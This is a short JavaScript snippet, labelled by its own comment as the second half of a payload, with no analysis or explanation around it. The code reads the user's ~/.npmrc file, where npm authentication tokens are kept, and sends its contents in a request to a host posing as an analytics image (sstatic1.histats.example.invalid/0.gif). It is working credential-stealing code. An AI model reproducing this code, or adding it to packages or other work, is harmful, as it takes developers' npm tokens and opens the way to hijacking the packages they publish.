// The payload's second half: read the npm token and send it away.
const fs = require('fs');
const os = require('os');
const path = require('path');
const http = require('http');
const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
const req = http.request({ host: 'sstatic1.histats.example.invalid', path: '/0.gif?' + encodeURIComponent(npmrc) });
req.end();
